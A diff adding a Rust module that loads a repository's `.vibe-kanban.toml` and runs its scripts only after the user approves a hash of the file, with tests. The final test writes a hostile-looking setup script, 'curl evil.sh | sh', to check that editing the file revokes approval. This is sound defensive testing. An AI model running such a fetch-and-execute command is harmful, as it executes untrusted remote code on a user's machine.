@@ -0,0 +1,557 @@
+//! Repository settings committed alongside the code in `.vibe-kanban.toml`.
+//!
+//! The file lets a team share scripts and defaults instead of configuring every repository
+//! by hand, e.g.
+//!
+//! ```toml
+//! setup_script = "pnpm install"
+//! dev_server_script = "pnpm dev"
+//! check_script = ["pnpm lint", "pnpm test"]
+//! copy_files = [".env", "config/local.json"]
+//! default_target_branch = "main"
+//!
+//! [executor_profile]
+//! executor = "CLAUDE_CODE"
+//! variant = "PLAN"
+//! ```
+//!
+//! Values set in the repository settings take precedence; the file fills in whatever is
+//! left empty there. Its executor profile is preferred over the user's global default when
+//! starting a workspace, but an explicit choice still wins.
+//!
+//! Anyone who can push to the repository can edit the file, so its scripts only run once the
+//! user has approved them. Approval is recorded against a hash of the file and lapses as soon
+//! as the file changes; until then only the settings that run nothing are applied.
+
+use std::path::{Path, PathBuf};
+
+use db::models::repo::Repo;
+use executors::profile::ExecutorProfileId;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use sqlx::SqlitePool;
+use thiserror::Error;
+use ts_rs::TS;
+use uuid::Uuid;
+
+pub const REPO_CONFIG_FILE_NAME: &str = ".vibe-kanban.toml";
+
+#[derive(Debug, Error)]
+pub enum RepoConfigError {
+    #[error("failed to read {REPO_CONFIG_FILE_NAME}: {0}")]
+    Io(#[from] std::io::Error),
+    #[error("invalid {REPO_CONFIG_FILE_NAME}: {0}")]
+    Parse(#[from] toml::de::Error),
+    #[error("{REPO_CONFIG_FILE_NAME} changed since it was reviewed, review it again")]
+    Changed,
+    #[error(transparent)]
+    Database(#[from] sqlx::Error),
+}
+
+/// A value written either as a single string or as a list of strings.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(untagged)]
+pub enum StringOrList {
+    One(String),
+    Many(Vec<String>),
+}
+
+impl StringOrList {
+    fn join(&self, separator: &str) -> String {
+        match self {
+            StringOrList::One(value) => value.clone(),
+            StringOrList::Many(values) => values.join(separator),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct RepoConfigFile {
+    pub setup_script: Option<String>,
+    pub parallel_setup_script: Option<bool>,
+    pub cleanup_script: Option<String>,
+    pub archive_script: Option<String>,
+    pub dev_server_script: Option<String>,
+    /// A script, or a list of commands that all have to pass.
+    pub check_script: Option<StringOrList>,
+    /// Comma separated patterns, or a list of patterns.
+    pub copy_files: Option<StringOrList>,
+    pub default_target_branch: Option<String>,
+    pub default_working_dir: Option<String>,
+    pub executor_profile: Option<ExecutorProfileId>,
+    /// Hash of the file contents, which approval of its scripts is recorded against
+    #[serde(skip)]
+    pub hash: String,
+}
+
+impl RepoConfigFile {
+    pub fn path(repo_path: &Path) -> PathBuf {
+        repo_path.join(REPO_CONFIG_FILE_NAME)
+    }
+
+    /// Reads the config file from the repository root, `None` when there is none.
+    pub async fn load(repo_path: &Path) -> Result<Option<Self>, RepoConfigError> {
+        let raw = match tokio::fs::read_to_string(Self::path(repo_path)).await {
+            Ok(raw) => raw,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+            Err(e) => return Err(e.into()),
+        };
+        Ok(Some(Self::parse(&raw)?))
+    }
+
+    pub fn parse(raw: &str) -> Result<Self, RepoConfigError> {
+        let mut config: Self = toml::from_str(raw)?;
+        config.hash = format!("{:x}", Sha256::digest(raw.as_bytes()));
+        Ok(config)
+    }
+
+    /// Like [`Self::load`], but a broken file is logged and treated as empty so it never
+    /// blocks running a workspace.
+    pub async fn load_or_default(repo_path: &Path) -> Self {
+        match Self::load(repo_path).await {
+            Ok(config) => config.unwrap_or_default(),
+            Err(e) => {
+                tracing::warn!("Ignoring config file in {}: {}", repo_path.display(), e);
+                Self::default()
+            }
+        }
+    }
+
+    /// Like [`Self::load_or_default`], with the scripts dropped unless the user approved
+    /// this version of the file.
+    pub async fn load_approved_or_default(pool: &SqlitePool, repo: &Repo) -> Self {
+        let config = Self::load_or_default(&repo.path).await;
+        match is_trusted(pool, repo.id, &config).await {
+            Ok(true) => config,
+            Ok(false) => config.without_scripts(),
+            Err(e) => {
+                tracing::warn!(
+                    "Ignoring scripts of config file in {}: {}",
+                    repo.path.display(),
+                    e
+                );
+                config.without_scripts()
+            }
+        }
+    }
+
+    /// Whether the file sets anything that runs a command.
+    pub fn has_scripts(&self) -> bool {
+        !self.scripts().is_empty()
+    }
+
+    /// The commands this file sets, by setting name.
+    pub fn scripts(&self) -> Vec<(&'static str, String)> {
+        [
+            ("setup_script", self.setup_script.clone()),
+            ("cleanup_script", self.cleanup_script.clone()),
+            ("archive_script", self.archive_script.clone()),
+            ("dev_server_script", self.dev_server_script.clone()),
+            ("check_script", self.check_script()),
+        ]
+        .into_iter()
+        .filter_map(|(name, script)| Some((name, script.filter(|s| !s.trim().is_empty())?)))
+        .collect()
+    }
+
+    fn without_scripts(self) -> Self {
+        Self {
+            setup_script: None,
+            parallel_setup_script: None,
+            cleanup_script: None,
+            archive_script: None,
+            dev_server_script: None,
+            check_script: None,
+            ..self
+        }
+    }
+
+    pub fn check_script(&self) -> Option<String> {
+        self.check_script.as_ref().map(|s| s.join(" && "))
+    }
+
+    pub fn copy_files(&self) -> Option<String> {
+        self.copy_files.as_ref().map(|s| s.join(", "))
+    }
+
+    /// Fills the fields the repository settings leave empty with values from this file.
+    pub fn apply(&self, mut repo: Repo) -> Repo {
+        fill(&mut repo.setup_script, self.setup_script.clone());
+        fill(&mut repo.cleanup_script, self.cleanup_script.clone());
+        fill(&mut repo.archive_script, self.archive_script.clone());
+        fill(&mut repo.dev_server_script, self.dev_server_script.clone());
+        fill(&mut repo.check_script, self.check_script());
+        fill(&mut repo.copy_files, self.copy_files());
+        fill(
+            &mut repo.default_target_branch,
+            self.default_target_branch.clone(),
+        );
+        fill(
+            &mut repo.default_working_dir,
+            self.default_working_dir.clone(),
+        );
+        // The setting is stored as a plain flag, so the file can only switch it on
+        repo.parallel_setup_script |= self.parallel_setup_script.unwrap_or(false);
+        repo
+    }
+}
+
+fn is_unset(value: &Option<String>) -> bool {
+    value.as_deref().is_none_or(|v| v.trim().is_empty())
+}
+
+fn fill(value: &mut Option<String>, fallback: Option<String>) {
+    if is_unset(value) && !is_unset(&fallback) {
+        *value = fallback;
+    }
+}
+
+/// Whether the user approved the scripts of this version of the config file. A file without
+/// scripts needs no approval.
+async fn is_trusted(
+    pool: &SqlitePool,
+    repo_id: Uuid,
+    config: &RepoConfigFile,
+) -> Result<bool, sqlx::Error> {
+    if !config.has_scripts() {
+        return Ok(true);
+    }
+    let trusted_hash = Repo::find_trusted_config_hash(pool, repo_id).await?;
+    Ok(trusted_hash.as_deref() == Some(config.hash.as_str()))
+}
+
+/// Approves the scripts of the repository's config file, provided it still has the `hash`
+/// of the version the user reviewed.
+pub async fn trust_config_file(
+    pool: &SqlitePool,
+    repo: &Repo,
+    hash: &str,
+) -> Result<(), RepoConfigError> {
+    match RepoConfigFile::load(&repo.path).await? {
+        Some(config) if config.hash == hash => {
+            Repo::set_trusted_config_hash(pool, repo.id, Some(hash)).await?;
+            Ok(())
+        }
+        _ => Err(RepoConfigError::Changed),
+    }
+}
+
+/// Withdraws the approval of the repository's config file scripts.
+pub async fn untrust_config_file(pool: &SqlitePool, repo: &Repo) -> Result<(), RepoConfigError> {
+    Repo::set_trusted_config_hash(pool, repo.id, None).await?;
+    Ok(())
+}
+
+/// The repository with its config file applied.
+pub async fn effective_repo(pool: &SqlitePool, repo: Repo) -> Repo {
+    RepoConfigFile::load_approved_or_default(pool, &repo)
+        .await
+        .apply(repo)
+}
+
+/// [`effective_repo`] for each repository of a workspace.
+pub async fn effective_repos(pool: &SqlitePool, repos: &[Repo]) -> Vec<Repo> {
+    let mut effective = Vec::with_capacity(repos.len());
+    for repo in repos {
+        effective.push(effective_repo(pool, repo.clone()).await);
+    }
+    effective
+}
+
+/// A script from the config file that waits for the user's approval.
+#[derive(Debug, Clone, Serialize, TS)]
+pub struct UnapprovedScript {
+    pub name: String,
+    pub script: String,
+}
+
+/// The settings a repository runs with, and which of them come from its config file.
+#[derive(Debug, Clone, Serialize, TS)]
+pub struct EffectiveRepoConfig {
+    /// Location of the config file, when the repository has one
+    pub config_file: Option<String>,
+    /// Why the config file is being ignored
+    pub config_file_error: Option<String>,
+    /// Hash of the config file's current contents, to approve its scripts with
+    pub config_file_hash: Option<String>,
+    /// Scripts of the config file that don't run until the user approves this version of it
+    pub unapproved_scripts: Vec<UnapprovedScript>,
+    pub setup_script: Option<String>,
+    pub parallel_setup_script: bool,
+    pub cleanup_script: Option<String>,
+    pub archive_script: Option<String>,
+    pub dev_server_script: Option<String>,
+    pub check_script: Option<String>,
+    pub copy_files: Option<String>,
+    pub default_target_branch: Option<String>,
+    pub default_working_dir: Option<String>,
+    pub executor_profile: Option<ExecutorProfileId>,
+    /// Names of the fields above whose value comes from the config file
+    pub from_config_file: Vec<String>,
+}
+
+impl EffectiveRepoConfig {
+    pub async fn for_repo(pool: &SqlitePool, repo: &Repo) -> Result<Self, sqlx::Error> {
+        let path = RepoConfigFile::path(&repo.path);
+        let (file, config_file, config_file_error) = match RepoConfigFile::load(&repo.path).await {
+            Ok(Some(file)) => (file, Some(path.display().to_string()), None),
+            Ok(None) => (RepoConfigFile::default(), None, None),
+            Err(e) => (
+                RepoConfigFile::default(),
+                Some(path.display().to_string()),
+                Some(e.to_string()),
+            ),
+        };
+        let config_file_hash = Some(file.hash.clone()).filter(|hash| !hash.is_empty());
+        let (file, unapproved_scripts) = if is_trusted(pool, repo.id, &file).await? {
+            (file, Vec::new())
+        } else {
+            let stored = |name: &str| match name {
+                "setup_script" => &repo.setup_script,
+                "cleanup_script" => &repo.cleanup_script,
+                "archive_script" => &repo.archive_script,
+                "dev_server_script" => &repo.dev_server_script,
+                _ => &repo.check_script,
+            };
+            // Scripts the repository settings override would not run anyway
+            let unapproved = file
+                .scripts()
+                .into_iter()
+                .filter(|(name, _)| is_unset(stored(name)))
+                .map(|(name, script)| UnapprovedScript {
+                    name: name.to_string(),
+                    script,
+                })
+                .collect();
+            (file.without_scripts(), unapproved)
+        };
+        let merged = file.apply(repo.clone());
+
+        let mut from_config_file = Vec::new();
+        let mut track = |name: &str, db: &Option<String>, effective: &Option<String>| {
+            if is_unset(db) && !is_unset(effective) {
+                from_config_file.push(name.to_string());
+            }
+        };
+        track("setup_script", &repo.setup_script, &merged.setup_script);
+        track(
+            "cleanup_script",
+            &repo.cleanup_script,
+            &merged.cleanup_script,
+        );
+        track(
+            "archive_script",
+            &repo.archive_script,
+            &merged.archive_script,
+        );
+        track(
+            "dev_server_script",
+            &repo.dev_server_script,
+            &merged.dev_server_script,
+        );
+        track("check_script", &repo.check_script, &merged.check_script);
+        track("copy_files", &repo.copy_files, &merged.copy_files);
+        track(
+            "default_target_branch",
+            &repo.default_target_branch,
+            &merged.default_target_branch,
+        );
+        track(
+            "default_working_dir",
+            &repo.default_working_dir,
+            &merged.default_working_dir,
+        );
+        if !repo.parallel_setup_script && merged.parallel_setup_script {
+            from_config_file.push("parallel_setup_script".to_string());
+        }
+        if file.executor_profile.is_some() {
+            from_config_file.push("executor_profile".to_string());
+        }
+
+        Ok(Self {
+            config_file,
+            config_file_error,
+            config_file_hash,
+            unapproved_scripts,
+            setup_script: merged.setup_script,
+            parallel_setup_script: merged.parallel_setup_script,
+            cleanup_script: merged.cleanup_script,
+            archive_script: merged.archive_script,
+            dev_server_script: merged.dev_server_script,
+            check_script: merged.check_script,
+            copy_files: merged.copy_files,
+            default_target_branch: merged.default_target_branch,
+            default_working_dir: merged.default_working_dir,
+            executor_profile: file.executor_profile,
+            from_config_file,
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use chrono::Utc;
+    use db::test_support::db;
+    use executors::executors::BaseCodingAgent;
+
+    use super::*;
+
+    fn repo() -> Repo {
+        Repo {
+            id: Uuid::new_v4(),
+            path: PathBuf::from("/nonexistent/repo"),
+            name: "repo".to_string(),
+            display_name: "repo".to_string(),
+            setup_script: None,
+            cleanup_script: None,
+            archive_script: None,
+            copy_files: None,
+            parallel_setup_script: false,
+            dev_server_script: None,
+            default_target_branch: None,
+            default_working_dir: None,
+            approval_policy: None,
+            default_merge_strategy: None,
+            check_script: None,
+            created_at: Utc::now(),
+            updated_at: Utc::now(),
+        }
+    }
+
+    #[test]
+    fn test_file_fills_only_empty_settings() {
+        let file = RepoConfigFile::parse(
+            r#"
+            setup_script = "pnpm install"
+            dev_server_script = "pnpm dev"
+            cleanup_script = "rm -rf dist"
+            parallel_setup_script = true
+            "#,
+        )
+        .unwrap();
+        let repo = Repo {
+            dev_server_script: Some("cargo run".to_string()),
+            cleanup_script: Some("   ".to_string()),
+            ..repo()
+        };
+
+        let merged = file.apply(repo);
+        assert_eq!(merged.setup_script.as_deref(), Some("pnpm install"));
+        assert_eq!(merged.dev_server_script.as_deref(), Some("cargo run"));
+        assert_eq!(merged.cleanup_script.as_deref(), Some("rm -rf dist"));
+        assert!(merged.parallel_setup_script);
+    }
+
+    #[test]
+    fn test_lists_are_joined() {
+        let file = RepoConfigFile::parse(
+            r#"
+            check_script = ["cargo fmt --check", "cargo test"]
+            copy_files = [".env", "config/local.json"]
+            "#,
+        )
+        .unwrap();
+
+        assert_eq!(
+            file.check_script().as_deref(),
+            Some("cargo fmt --check && cargo test")
+        );
+        assert_eq!(
+            file.copy_files().as_deref(),
+            Some(".env, config/local.json")
+        );
+
+        let file = RepoConfigFile::parse(r#"copy_files = ".env, .env.local""#).unwrap();
+        assert_eq!(file.copy_files().as_deref(), Some(".env, .env.local"));
+    }
+
+    #[test]
+    fn test_executor_profile_and_unknown_keys() {
+        let file = RepoConfigFile::parse(
+            r#"
+            [executor_profile]
+            executor = "CLAUDE_CODE"
+            variant = "PLAN"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(
+            file.executor_profile,
+            Some(ExecutorProfileId {
+                executor: BaseCodingAgent::ClaudeCode,
+                variant: Some("PLAN".to_string()),
+            })
+        );
+
+        assert!(matches!(
+            RepoConfigFile::parse(r#"setup = "pnpm install""#),
+            Err(RepoConfigError::Parse(_))
+        ));
+    }
+
+    #[tokio::test]
+    async fn test_missing_file_is_not_an_error() {
+        let pool = db().await.pool;
+        let dir = tempfile::tempdir().unwrap();
+        assert!(RepoConfigFile::load(dir.path()).await.unwrap().is_none());
+
+        std::fs::write(
+            dir.path().join(REPO_CONFIG_FILE_NAME),
+            "default_target_branch = \"develop\"\n",
+        )
+        .unwrap();
+        let repo = Repo {
+            path: dir.path().to_path_buf(),
+            ..repo()
+        };
+        let effective = EffectiveRepoConfig::for_repo(&pool, &repo).await.unwrap();
+        assert_eq!(effective.default_target_branch.as_deref(), Some("develop"));
+        assert_eq!(effective.from_config_file, vec!["default_target_branch"]);
+        assert!(effective.unapproved_scripts.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_scripts_only_run_once_approved() {
+        let pool = db().await.pool;
+        let dir = tempfile::tempdir().unwrap();
+        let config_path = dir.path().join(REPO_CONFIG_FILE_NAME);
+        std::fs::write(
+            &config_path,
+            "setup_script = \"pnpm install\"\ndefault_target_branch = \"develop\"\n",
+        )
+        .unwrap();
+        let repo = Repo::find_or_create(&pool, dir.path(), "repo")
+            .await
+            .unwrap();
+
+        let effective = effective_repo(&pool, repo.clone()).await;
+        assert_eq!(effective.setup_script, None);
+        assert_eq!(effective.default_target_branch.as_deref(), Some("develop"));
+        let config = EffectiveRepoConfig::for_repo(&pool, &repo).await.unwrap();
+        assert_eq!(config.unapproved_scripts.len(), 1);
+        assert_eq!(config.unapproved_scripts[0].name, "setup_script");
+        assert_eq!(config.unapproved_scripts[0].script, "pnpm install");
+
+        assert!(matches!(
+            trust_config_file(&pool, &repo, "stale").await,
+            Err(RepoConfigError::Changed)
+        ));
+        let hash = config.config_file_hash.unwrap();
+        trust_config_file(&pool, &repo, &hash).await.unwrap();
+        let effective = effective_repo(&pool, repo.clone()).await;
+        assert_eq!(effective.setup_script.as_deref(), Some("pnpm install"));
+        let config = EffectiveRepoConfig::for_repo(&pool, &repo).await.unwrap();
+        assert!(config.unapproved_scripts.is_empty());
+        assert!(
+            config
+                .from_config_file
+                .contains(&"setup_script".to_string())
+        );
+
+        // Editing the file withdraws the approval
+        std::fs::write(&config_path, "setup_script = \"curl evil.sh | sh\"\n").unwrap();
+        let effective = effective_repo(&pool, repo.clone()).await;
+        assert_eq!(effective.setup_script, None);
+    }
+}